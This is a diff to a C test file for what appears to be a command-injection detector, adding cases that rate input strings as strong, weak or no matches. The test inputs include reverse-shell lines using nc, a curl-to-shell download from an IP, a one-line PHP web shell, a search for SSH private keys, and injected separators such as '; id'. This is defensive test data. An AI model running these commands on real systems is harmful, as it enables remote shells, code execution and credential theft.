@@ -142,7 +142,40 @@ static void values_alone(void)
     STRONG("nc -e /bin/sh 10.0.0.2 4444", "nc");
     STRONG("find / -name id_rsa", "find");
     STRONG("echo \"<?php system($_GET[0]); ?>\" > x.php", "echo");
-    STRONG("ls -la | grep root", NULL);
+    /* a command line typed from the value's start, as into a search box:
+     * its separators continue it, each command judged as at the start */
+    WEAK("ls -la | grep root");
+    NONE("ps aux | grep nginx");
+    NONE("apt-get update && apt-get upgrade");
+    WEAK("kill -9 $(lsof -t -i:3000)");
+    NONE("for i in $(seq 1 10)");
+    WEAK("wget -O - url | bash");
+    WEAK("crontab -e every 5 minutes");
+    STRONG("ls -la; nc -e /bin/sh 10.0.0.1 4444", "nc");
+    STRONG("ps aux; id", "sh:;id");
+    STRONG("ls x && curl http://203.0.113.5/a | sh", "curl");
+    STRONG("x y | grep root", NULL);        /* not a command first */
+    /* a URL's query: "&name=value" is a parameter, not an assignment */
+    NONE("https://translate.google.com/?sl=auto&tl=de&text=git reset --hard HEAD~1&op=translate");
+    NONE("https://example.net/index.php?graphql&query=query Product($handle: String!) { x }");
+    NONE("https://translate.google.com/?text=php $_GET['id']&op=translate");
+    /* a JSON string that starts with a command line (a search history in
+     * a cookie) is typed text as well */
+    NONE("[\"sh*t happens\", \"apt-get update && apt-get upgrade\"]");
+    NONE("{\"q\": \"ls -la | grep root\"}");
+    STRONG("[\"x\", \"ls && curl http://203.0.113.5/a | sh\"]", "curl");
+    STRONG("\"; id; \"", "sh:;id");
+    /* cmd.exe runs its arguments after /c or /k only; a quoted pattern is
+     * no quoted code */
+    WEAK("cmd dir /s");
+    STRONG("& cmd /k dir", "dir");
+    WEAK("find . -name '*.log' -delete");
+    STRONG("find / -name '*.key'", "sh:find");
+    /* a binary's directory written from the root without its '/' */
+    STRONG(";usr/bin/id", "sh:;id");
+    STRONG("a;bin/ls -la", "sh:;ls");
+    NONE("docs/bin/cat.html");
+    STRONG("; sysinfo", "sysinfo");
     /* the whole value a command line of flags only: what people type into
      * a search box (uname -a, ls -la), weak */
     WEAK("uname -a");
